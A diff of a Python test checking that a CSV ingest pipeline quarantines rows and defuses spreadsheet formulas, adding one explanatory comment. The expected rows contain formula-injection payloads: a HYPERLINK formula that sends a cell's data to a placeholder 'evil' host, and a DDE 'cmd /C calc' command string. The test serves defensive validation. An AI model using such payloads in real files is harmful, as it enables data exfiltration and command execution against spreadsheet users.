@@ -113,6 +113,7 @@ def test_ingest_quarantine_csv_cells_cannot_run_as_formulas_streamed_or_not(tmp_
     assert (inv["rows_in"], inv["rows_accepted"], inv["rows_quarantined"]) == (6, 2, 4)
     text = (tmp_path / "mem" / "quarantine" / "invoices.csv").read_text(encoding="utf-8")
     rows = list(csv.DictReader(text.splitlines()))
+    # the amount of a row a cross-table check rejects as the file wrote it ("10"; "10.0" before 312aa57)
     assert [(r["invoice_id"], r["debtor_id"], r["amount"]) for r in rows] == [
         ('\'=HYPERLINK("http://evil/?"&A1,"x")', "NOPE", "10"),
         ("I3", "'＝cmd|' /C calc'!A0", "10"),
